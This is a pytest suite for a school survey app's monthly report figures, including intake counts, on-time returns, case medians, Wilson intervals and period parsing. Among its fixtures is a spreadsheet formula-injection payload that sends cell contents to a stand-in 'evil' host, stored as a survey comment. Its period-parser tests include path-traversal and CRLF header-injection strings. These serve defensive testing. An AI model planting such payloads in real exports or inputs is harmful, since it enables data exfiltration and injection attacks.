"""Every figure of docs/figures.md, asserted exactly on a known January (both engines)."""

from dataclasses import dataclass
from datetime import date, datetime

import pytest

from survey_app.cases.models import Case, CaseStatus, RootCause
from survey_app.dated_rules import set_rule
from survey_app.dossiers.intake import apology_deadline
from survey_app.dossiers.models import Apology
from survey_app.dossiers.workdays import WorkCalendar
from survey_app.extensions import db
from survey_app.reports import figures as F
from survey_app.reports import periods, queries
from survey_app.reports.stats import Rate, meets, pct, wilson
from survey_app.timeutil import local_to_utc

JAN = periods.parse_period("2020-01")
AFTER = date(2020, 3, 1)  # "today" for the figures: January is over
HOSTILE = '=HYPERLINK("http://evil/?"&A1,"x")'


@dataclass
class January:
    school: object
    other: object
    d: dict


def _case(response, opened, due, resolved=None, serious=False):
    case = Case(
        school_id=response.school_id,
        response_id=response.id,
        opened_at=local_to_utc(opened),
        due_date=due,
        serious=serious,
    )
    if resolved:
        case.status = CaseStatus.RESOLVED
        case.resolved_at = local_to_utc(resolved)
        case.resolution, case.root_cause = "Đã gọi điện cho phụ huynh.", RootCause.OTHER
    db.session.add(case)
    db.session.commit()
    return case


def _apology(dossier, issued):
    db.session.add(
        Apology(
            dossier_id=dossier.id,
            reason="Chờ xác minh.",
            new_due_date=date(2020, 1, 31),
            channel="phone",
            issued_at=local_to_utc(issued),
            in_time_by=apology_deadline(dossier.first_due_date, WorkCalendar(dossier.school_id)),
        )
    )
    db.session.commit()


def make_january(make) -> January:
    """The known month. Local wall-clock times throughout; comments say what each row is."""
    school = make.school()
    other = make.school(code="OTHER", name="Trường THCS Khác")
    dt = datetime
    d = {}
    # Received in December: carried over (returned late in January, apology a working day
    # before the due day: Friday 20/12 for Monday 23/12),
    # returned in December (not carried), and still open (carried, past due at the end).
    d["carry1"] = make.dossier(
        received_at=dt(2019, 12, 20, 10),
        due_date=date(2019, 12, 23),
        returned_at=dt(2020, 1, 3, 10),
    )
    _apology(d["carry1"], dt(2019, 12, 20, 15))
    d["carry2"] = make.dossier(
        received_at=dt(2019, 12, 30, 9), due_date=date(2020, 1, 2), returned_at=dt(2019, 12, 31, 9)
    )
    d["carry3"] = make.dossier(received_at=dt(2019, 12, 27, 9), due_date=date(2020, 1, 6))
    d["dec"] = make.dossier(
        received_at=dt(2019, 12, 2, 9), due_date=date(2019, 12, 4), returned_at=dt(2019, 12, 4, 9)
    )
    # Received in January.
    d["early"] = make.dossier(
        received_at=dt(2020, 1, 6, 8), due_date=date(2020, 1, 8), returned_at=dt(2020, 1, 7, 15)
    )
    d["on_time"] = make.dossier(
        received_at=dt(2020, 1, 6, 9),
        due_date=date(2020, 1, 8),
        returned_at=dt(2020, 1, 8, 16),
        intake_channel="online_l4",
    )
    d["late"] = make.dossier(
        received_at=dt(2020, 1, 7, 9),
        due_date=date(2020, 1, 9),
        returned_at=dt(2020, 1, 13, 9),
        intake_channel="online_l3",
    )
    _apology(d["late"], dt(2020, 1, 10, 9))  # after the original due date: does not count
    d["late_midnight"] = make.dossier(  # returned at the last second of January: late, in it
        received_at=dt(2020, 1, 8, 9),
        due_date=date(2020, 1, 10),
        returned_at=dt(2020, 1, 31, 23, 59, 59),
        intake_channel="postal",
    )
    d["withdrawn"] = make.dossier(  # the last second of January; withdrawn, still received
        received_at=dt(2020, 1, 31, 23, 59, 59), due_date=date(2020, 2, 4), status="withdrawn"
    )
    d["february"] = make.dossier(received_at=dt(2020, 2, 1, 0, 0, 0), due_date=date(2020, 2, 4))
    d["open"] = make.dossier(received_at=dt(2020, 1, 20, 10), due_date=date(2020, 2, 5))
    d["open_past"] = make.dossier(  # returned at the first second of February: open at the end
        received_at=dt(2020, 1, 21, 10), due_date=date(2020, 1, 23), returned_at=dt(2020, 2, 1)
    )
    d["elsewhere"] = make.dossier(school=other, received_at=dt(2020, 1, 15, 9))
    r = {}
    r["early"] = make.response(
        d["early"],
        overall="very_satisfied",
        channel="qr",
        details={"info_clear": "very_satisfied", "visits": "0"},
        submitted_at=dt(2020, 1, 7, 16),
    )
    r["on_time"] = make.response(
        d["on_time"], overall="satisfied", channel="code", comment="Cảm ơn thầy cô."
    )
    r["late"] = make.response(
        d["late"],
        overall="dissatisfied",
        channel="paper",
        details={"staff_attitude": "dissatisfied", "visits": "2+"},
        reasons=["impolite", "many_visits"],
        comment=HOSTILE,
    )
    r["open_past"] = make.response(  # a late answer, in February, about a January dossier
        d["open_past"], overall="satisfied", channel="kiosk", submitted_at=dt(2020, 2, 4, 9)
    )
    r["dec"] = make.response(d["dec"], overall="dissatisfied", channel="qr")
    make.response(d["elsewhere"], overall="dissatisfied", channel="qr")
    # Cases: resolved in 2 and 4 days (median 3), one December case still open and overdue,
    # one opened late in January, serious, open but not yet due.
    _case(r["late"], dt(2020, 1, 14, 10), date(2020, 1, 21), resolved=dt(2020, 1, 16, 10))
    _case(r["on_time"], dt(2020, 1, 20, 10), date(2020, 1, 27), resolved=dt(2020, 1, 24, 10))
    _case(r["dec"], dt(2019, 12, 30, 10), date(2020, 1, 6))
    _case(r["early"], dt(2020, 1, 28, 10), date(2020, 2, 4), serious=True)
    return January(school, other, d)


@pytest.fixture(autouse=True)
def _request(app):
    """Labels are translated: run each test inside a request (default locale vi)."""
    with app.test_request_context():
        yield


@pytest.fixture
def january(make):
    return make_january(make)


def test_intake_counts_and_channels(january):
    i = queries.intake(january.school.id, JAN)[None]
    assert (i.received, i.counter, i.postal, i.online_l3, i.online_l4) == (7, 4, 1, 1, 1)
    assert i.withdrawn == 1
    assert (i.surveyed, i.satisfied, i.very_satisfied, i.satisfied_only, i.dissatisfied) == (
        4,
        3,
        1,
        2,
        1,
    )
    assert (i.qr, i.code, i.paper, i.kiosk) == (1, 1, 1, 1)
    assert (i.self_service, i.self_satisfied, i.assisted, i.assisted_satisfied) == (2, 2, 2, 1)
    assert (i.comments, i.suggestions) == (2, 1)


def test_returns_against_the_due_date_in_local_time(january):
    r = queries.returns(january.school.id, JAN)[None]
    assert (r.returned, r.early, r.on_time, r.late, r.late_apologised) == (5, 1, 1, 3, 1)


def test_one_stop_table_balances(january):
    f = queries.flow(january.school.id, JAN, today=AFTER)[None]
    assert (f.carried_over, f.withdrawn, f.open_end) == (2, 1, 3)
    assert (f.open_end_past_due, f.open_end_within_due) == (2, 1)
    i = queries.intake(january.school.id, JAN)[None]
    r = queries.returns(january.school.id, JAN)[None]
    assert f.carried_over + i.received == r.returned + f.withdrawn + f.open_end


def test_past_due_is_judged_on_today_while_the_period_runs(january):
    # On 22/01 the open dossier due 23/01 is within its due date, the one due 06/01 is not.
    f = queries.flow(january.school.id, JAN, today=date(2020, 1, 22))[None]
    assert (f.open_end, f.open_end_past_due) == (3, 1)


def test_cases_and_median_days(january):
    c = queries.cases(january.school.id, JAN, today=AFTER)[None]
    assert (c.opened, c.serious, c.resolved, c.open_end, c.overdue) == (3, 1, 2, 2, 1)
    assert c.median_days == pytest.approx(3.0)


def test_median_with_an_odd_count(january, make):
    response = make.response(make.dossier(received_at=datetime(2020, 1, 9, 9)))
    _case(response, datetime(2020, 1, 9, 10), date(2020, 1, 16), datetime(2020, 1, 19, 22))
    c = queries.cases(january.school.id, JAN, today=AFTER)[None]
    assert c.median_days == pytest.approx(4.0)  # 2, 4, 10.5 days


def test_aspects_and_reasons(january):
    aspects, reasons = queries.aspects(january.school.id, JAN)
    by_code = {a.question.code: a for a in aspects}
    assert by_code["info_clear"].counts == {"very_satisfied": 1, "satisfied": 0, "dissatisfied": 0}
    assert (by_code["info_clear"].answered, by_code["info_clear"].negative) == (1, 0)
    assert by_code["visits"].counts == {"0": 1, "1": 0, "2+": 1}
    assert (by_code["visits"].answered, by_code["visits"].negative) == (2, 1)
    assert (by_code["staff_attitude"].answered, by_code["staff_attitude"].negative) == (1, 1)
    assert by_code["extra_payment"].answered == 0
    assert reasons["impolite"] == reasons["many_visits"] == 1
    assert sum(reasons.values()) == 2


def test_every_rate_of_the_month(january):
    fig = F.compute(january.school.id, JAN, today=AFTER)
    expected = {
        "coverage": (4, 7),
        "satisfaction": (3, 4),
        "on_time": (2, 5),
        "online": (2, 7),
        "online_l4": (1, 7),
        "apology": (1, 3),
        "self_service": (2, 4),
        "self_satisfaction": (2, 2),
        "assisted_satisfaction": (1, 2),
    }
    for key, (num, den) in expected.items():
        rate = fig.rate(key)
        assert (rate.numerator, rate.denominator) == (num, den), key
        assert rate.value == pytest.approx(num / den), key
    assert fig.rate("satisfaction").pct() == "75,0%"
    assert [fig.count(k) for k, _label in F.COUNTS] == [7, 4, 5, 3, 1]


def test_all_schools_scope_adds_the_other_school(january):
    fig = F.compute(None, JAN, today=AFTER)
    assert fig.intake.received == 8
    assert (fig.rate("satisfaction").numerator, fig.rate("satisfaction").denominator) == (3, 5)


def test_month_boundary_23_59_59_and_00_00_00_local(january):
    feb = periods.parse_period("2020-02")
    assert queries.intake(january.school.id, feb)[None].received == 1  # 01/02 00:00:00
    returned_feb = queries.returns(january.school.id, feb)[None]
    assert returned_feb.returned == 1 and returned_feb.late == 1  # 01/02 00:00:00, due 23/01


def test_an_empty_period_shows_dashes_never_zero_or_hundred(january):
    fig = F.compute(january.school.id, periods.parse_period("2019-06"), today=AFTER)
    for indicator in F.INDICATORS:
        rate = fig.rate(indicator.key)
        assert rate.denominator == 0 and rate.value is None and rate.pct() == "—"
        assert rate.interval is None
    rows = F.headline(fig, F.targets(january.school.id, fig.period))
    assert all(row.met is None for row in rows)
    assert fig.cases.median_days is None


def test_apology_share_is_a_dash_without_late_dossiers(make):
    make.dossier(
        received_at=datetime(2020, 1, 6, 9),
        due_date=date(2020, 1, 8),
        returned_at=datetime(2020, 1, 8, 9),
    )
    fig = F.compute(make.school().id, JAN, today=AFTER)
    assert fig.rate("on_time").value == 1.0
    assert fig.rate("apology").denominator == 0 and fig.rate("apology").pct() == "—"


def test_wilson_interval_against_reference_values():
    # Reference values: Newcombe (1998), Table I; and the closed forms at 0 and n.
    for (x, n), (low, high) in {
        (95, 100): (0.8882, 0.9785),
        (0, 10): (0.0, 0.2775),
        (10, 10): (0.7225, 1.0),
        (1, 2): (0.0945, 0.9055),
        (81, 263): (0.2553, 0.3662),
    }.items():
        got = wilson(x, n)
        assert got[0] == pytest.approx(low, abs=5e-5) and got[1] == pytest.approx(high, abs=5e-5)
    assert wilson(0, 0) is None
    assert Rate.of(95, 100).interval_text() == "88,8%–97,8%"  # 0.97847


def test_targets_are_dated_rules_and_compare_strictly_or_not(january):
    school_id = january.school.id
    set_rule("target.satisfaction", 0.70, date(2020, 1, 1), school_id)
    set_rule("target.satisfaction", 0.80, date(2020, 2, 1), school_id)  # not yet in January
    db.session.commit()
    fig = F.compute(school_id, JAN, today=AFTER)
    rows = {row.indicator.key: row for row in F.headline(fig, F.targets(school_id, JAN))}
    assert rows["satisfaction"].target == 0.70 and rows["satisfaction"].met is True
    assert rows["coverage"].target == 0.90 and rows["coverage"].met is False
    assert rows["online"].target is None and rows["online"].met is None
    assert meets(0.9, 0.9, ">=") is True and meets(9 / 10, 0.9, ">") is False
    assert meets(1.0, 1.0, ">=") is True and meets(None, 0.9, ">=") is None


def test_minimum_n_hides_small_breakdown_cells(make):
    school = make.school()
    four, five = make.procedure(code="XAC-NHAN-HS"), make.procedure(code="BAN-SAO-VB")
    for procedure, n in ((four, 4), (five, 5)):
        for k in range(n):
            dossier = make.dossier(procedure=procedure, received_at=datetime(2020, 1, 6 + k, 9))
            make.response(dossier, overall="satisfied" if k else "dissatisfied")
    rows = {r.key: r for r in F.breakdown(school.id, JAN, "procedure")}
    small, enough = (
        rows["XAC-NHAN-HS"].rate("satisfaction"),
        rows["BAN-SAO-VB"].rate("satisfaction"),
    )
    assert small.suppressed and small.value is None and small.pct() == "—"
    assert small.counts_text() == "n=4"
    assert enough.value == pytest.approx(0.8) and enough.pct() == "80,0%"
    assert rows["XAC-NHAN-HS"].rate("coverage").value == 1.0  # dossier counts are not hidden
    whole = F.compute(school.id, JAN, today=AFTER)
    assert whole.rate("satisfaction").value == pytest.approx(7 / 9)  # the whole is no cell
    set_rule("min_cell_n", 3, date(2020, 1, 1), school.id)
    db.session.commit()
    rows = {r.key: r for r in F.breakdown(school.id, JAN, "procedure")}
    assert rows["XAC-NHAN-HS"].rate("satisfaction").value == pytest.approx(0.75)


def test_breakdowns_by_month_clerk_and_school(january, make):
    clerk = make.user(role="clerk", school=january.school)
    d = make.dossier(received_at=datetime(2020, 3, 2, 9), received_by_id=clerk.id)
    make.response(d)
    q1 = periods.parse_period("2020-Q1")
    months = F.breakdown(january.school.id, q1, "month")
    assert [(r.label, r.intake.received) for r in months] == [
        ("01/2020", 7),
        ("02/2020", 1),
        ("03/2020", 1),
    ]
    assert months[0].returns.returned == 5 and months[1].returns.returned == 1
    clerks = {r.key: r for r in F.breakdown(january.school.id, q1, "clerk")}
    assert clerks[clerk.id].intake.received == 1 and clerks[clerk.id].label == clerk.full_name
    assert clerks[None].intake.received == 8
    schools = {r.key: r for r in F.breakdown(None, JAN, "school")}
    assert schools[january.school.id].intake.received == 7
    assert schools[january.other.id].intake.received == 1
    assert schools[january.other.id].rate("satisfaction").suppressed


def test_periods_parse_and_refuse():
    assert periods.parse_period("2020-Q1").end == date(2020, 4, 1)
    assert periods.parse_period("2020-H1").end == date(2020, 7, 1)
    assert periods.parse_period("2020-9M").end == date(2020, 10, 1)
    assert periods.parse_period("2020").end == date(2021, 1, 1)
    custom = periods.parse_period("2020-01-05..2020-02-10")
    assert (custom.start, custom.end) == (date(2020, 1, 5), date(2020, 2, 11))
    assert len(periods.parse_period("2020-Q4").months()) == 3
    for bad in (
        "2024-13",
        "2024-00",
        "../../etc/passwd",
        "2024-01\r\nX:1",
        "2020-Q5",
        "",
        "2020-02-30..2020-03-01",
        "2020-03-01..2020-01-01",
        "1999",
        "2020-01 "[:-1] + "x",
    ):
        with pytest.raises(periods.PeriodError):
            periods.parse_period(bad)


def test_pct_formats_and_dash():
    assert pct(None) == "—" and pct(0.95) == "95,0%" and pct(1 / 3, 0) == "33%"


def _withdrawn(make, received, withdrawn, due):
    return make.dossier(
        received_at=received,
        due_date=due,
        status="withdrawn",
        withdrawn_at=local_to_utc(withdrawn) if withdrawn else None,
    )


def _reference_flow(school_id, period, today):
    """The one-stop flow by docs/figures.md's definition, over every dossier, in Python."""
    from survey_app.dossiers.models import Dossier, DossierStatus

    a, b = period.bounds_utc
    threshold = queries.past_due_threshold(period, today)
    out = queries.Flow()
    for d in db.session.scalars(db.select(Dossier).where(Dossier.school_id == school_id)):
        if d.status == DossierStatus.WITHDRAWN:
            ended = d.withdrawn_at or d.received_at
        else:
            ended = d.returned_at
        if d.received_at >= b or (ended is not None and ended < a):
            continue  # not open at any time in the period
        out.carried_over += d.received_at < a
        out.withdrawn += d.status == DossierStatus.WITHDRAWN and ended < b
        if ended is None or ended >= b:
            out.open_end += 1
            out.open_end_past_due += d.due_date < threshold
    return out


def test_flow_of_dossiers_withdrawn_before_in_and_after_the_period(january, make):
    dt = datetime
    # withdrawn with no recorded time: ended at receipt (December), not in January at all
    _withdrawn(make, dt(2019, 12, 10, 9), None, date(2019, 12, 12))
    _withdrawn(make, dt(2019, 12, 15, 9), dt(2019, 12, 20, 9), date(2019, 12, 18))  # before
    _withdrawn(make, dt(2019, 12, 28, 9), dt(2020, 1, 5, 9), date(2020, 1, 2))  # in January
    _withdrawn(make, dt(2019, 12, 31, 9), dt(2020, 1, 1, 0, 0, 0), date(2020, 1, 3))  # first second
    _withdrawn(make, dt(2019, 12, 29, 9), dt(2020, 2, 3, 9), date(2020, 1, 3))  # after: open
    make.dossier(received_at=dt(2019, 6, 3, 9), due_date=date(2019, 6, 5))  # open for months
    f = queries.flow(january.school.id, JAN, today=AFTER)[None]
    # the fixture's (2, 1, 3) and 2 past due, plus 4 carried, 2 withdrawn, 2 open past due
    assert (f.carried_over, f.withdrawn, f.open_end, f.open_end_past_due) == (6, 3, 5, 4)
    i = queries.intake(january.school.id, JAN)[None]
    r = queries.returns(january.school.id, JAN)[None]
    assert f.carried_over + i.received == r.returned + f.withdrawn + f.open_end
    for key in ("2019-06", "2019-12", "2020-01", "2020-02"):
        period = periods.parse_period(key)
        got = queries.flow(january.school.id, period, today=AFTER)[None]
        assert got == _reference_flow(january.school.id, period, AFTER), key


@pytest.mark.parametrize("group", ["procedure", "clerk", "school"])
def test_flow_by_group_adds_up_to_the_whole(january, make, group):
    from survey_app.dossiers.models import Procedure

    default = make.procedure(january.school)
    other = db.session.scalars(
        db.select(Procedure).where(
            Procedure.school_id == january.school.id, Procedure.id != default.id
        )
    ).first()
    make.dossier(procedure=other, received_at=datetime(2019, 12, 30, 9), due_date=date(2020, 1, 2))
    whole = queries.flow(january.school.id, JAN, today=AFTER)[None]
    parts = queries.flow(january.school.id, JAN, group=group, today=AFTER)
    assert len(parts) == (2 if group == "procedure" else 1)
    for name in ("carried_over", "withdrawn", "open_end", "open_end_past_due"):
        assert sum(getattr(f, name) for f in parts.values()) == getattr(whole, name), name


def test_office_totals_from_the_school_table_equal_the_direct_figures(january, make):
    """The office's page sums the table by school instead of counting the rows again: the
    sums must be the scope's figures, field by field, with data in two schools (a second
    school's late return with an apology, a back-dated return and a ready time too)."""
    late = make.dossier(
        school=january.other,
        received_at=datetime(2020, 1, 6, 9),
        due_date=date(2020, 1, 8),
        returned_at=datetime(2020, 1, 10, 9),
        ready_at=local_to_utc(datetime(2020, 1, 9, 9)),
        return_entered_at=local_to_utc(datetime(2020, 1, 10, 11)),
        return_backdate_reason="offline",
    )
    _apology(late, datetime(2020, 1, 7, 9))
    direct = F.compute(None, JAN, today=AFTER)
    rows = F.breakdown(None, JAN, "school")
    summed = F.compute(None, JAN, today=AFTER, by_school=rows)
    assert len(rows) == 2
    assert summed.intake == direct.intake
    assert summed.returns == direct.returns
    assert direct.intake.received == 9 and direct.returns.late == 4
    assert direct.returns.backdated == 1 and direct.returns.ready_recorded == 1
    assert summed.as_json() == direct.as_json()
